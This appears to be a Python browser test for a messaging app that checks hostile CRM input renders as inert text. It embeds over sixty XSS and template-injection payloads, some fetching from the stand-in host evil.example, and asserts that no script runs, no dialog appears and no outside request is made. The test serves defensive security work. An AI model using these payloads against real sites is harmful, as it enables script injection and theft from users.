"""What a hostile CRM writes is read as words: no script runs, nothing is fetched, nothing pops up."""

from __future__ import annotations

from sayso import intake, store
from sayso.message import Content, Draft
from tests.browser.conftest import Visit
from tests.conftest import House

_TAGS = """
<script>alert(1)</script>|</script><script>alert(1)</script>|<ScRiPt>alert(1)</sCrIpT>|<script/src=//evil.example>
<script>fetch('//evil.example')</script>|"><script>alert(1)</script>|'><script>alert(1)</script>|--><script>alert(1)</script>
]]><script>alert(1)</script>|</title><script>alert(1)</script>|</textarea><script>alert(1)</script>
</style><script>alert(1)</script>|<img src=x onerror=alert(1)>|<img src=//evil.example/a.png>|<img/src/onerror=alert(1)>
<svg onload=alert(1)>|<svg><script>alert(1)</script></svg>|<svg/onload=alert(1)//|<body onload=alert(1)>
<iframe src=javascript:alert(1)>|<iframe srcdoc="<script>alert(1)</script>">|<iframe src=//evil.example></iframe>
<object data=//evil.example>|<embed src=//evil.example>|<applet code=x>|<link rel=stylesheet href=//evil.example/a.css>
<style>@import '//evil.example'</style>|<style>*{background:url(//evil.example)}</style>|<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">|<form action=//evil.example><button>Send it</button></form>
<input autofocus onfocus=alert(1)>|<select autofocus onfocus=alert(1)>|<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>|<video src=//evil.example onerror=alert(1)>|<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>|<math><mtext><script>alert(1)</script></mtext></math>|<template><script>alert(1)</script></template>
<a href=javascript:alert(1)>x</a>|<a href="data:text/html,<script>alert(1)</script>">x</a>|<p style="position:fixed;inset:0">
<button formaction=javascript:alert(1)>Send it</button>|<isindex action=javascript:alert(1)>|<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<b onmouseover=alert(1)>x</b>|" onmouseover="alert(1)|' onfocus='alert(1)' autofocus='|" autofocus onfocus="alert(1)
javascript:alert(1)|JaVaScRiPt:alert(1)|data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==|vbscript:msgbox(1)
{{7*7}}|{{config}}|{%25 print(1) %25}|${7*7}|#{7*7}|<%= 7*7 %>|{{''.__class__.__mro__}}|{{request.environ}}
&lt;script&gt;alert(1)&lt;/script&gt;|&#60;script&#62;alert(1)&#60;/script&#62;|%3Cscript%3Ealert(1)%3C/script%3E|\\u003cscript\\u003e
＜script＞alert(1)＜/script＞|+ADw-script+AD4-alert(1)+ADw-/script+AD4-|<scr\u200bipt>alert(1)</scr\u200bipt>|<!--<img src="--><img src=x onerror=alert(1)//">
"""  # noqa: E501, RUF001  # recorded strings
HOSTILE = tuple(text for row in _TAGS.strip().splitlines() for text in row.split("|"))


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 60


def test_no_hostile_word_is_more_than_a_word(house: House, visit: Visit) -> None:
    """Each one in the text, the sender, the callback, the picture and a field of its own."""
    ids = [_store(house, text, number) for number, text in enumerate(HOSTILE)]
    ana, popped = visit(house, scripts=True, width=1280), []
    ana.page.on("dialog", lambda dialog: (popped.append(dialog.message), dialog.dismiss()))
    ana.enter(role="manager")
    for text, message_id in zip(HOSTILE, ids, strict=True):
        page = ana.card(message_id)
        shown = (page.locator("p.bubble").first.text_content() or "").replace("hidden character ", "")
        assert shown == text.replace("\u200b", "U+200B"), text
        assert page.locator("script, iframe, img, object, embed, svg, base, style, [style]").count() == 0
        assert page.get_by_role("button", name="Send it").count() <= 1
    for path in ("", "/history"):
        ana.go(path)
    assert popped == []
    assert ana.said == []
    assert {url for url in ana.asked if not url.startswith((f"{house.url}/desk", "data:,"))} == set()


def _store(house: House, text: str, number: int) -> str:
    """A message as if no door had refused any of it."""
    content = Content(
        to=(f"+1212555{number:04}",),
        sender=text,
        body=text,
        media=(f"https://evil.example/a.png?{text}", text),
        fields=(("Body", text), ("StatusCallback", f"https://evil.example/?{text}"), (text, text)),
        callback_url=f"https://evil.example/?{text}",
    )
    draft = Draft("mms", "twilio", f"SM{number:032}", content, subject=text, person=text)
    house.source()
    with house.store.read() as tx:
        source = store.find_source(tx, name="crm")
    assert source
    return intake.take(house.runtime, source, draft).id
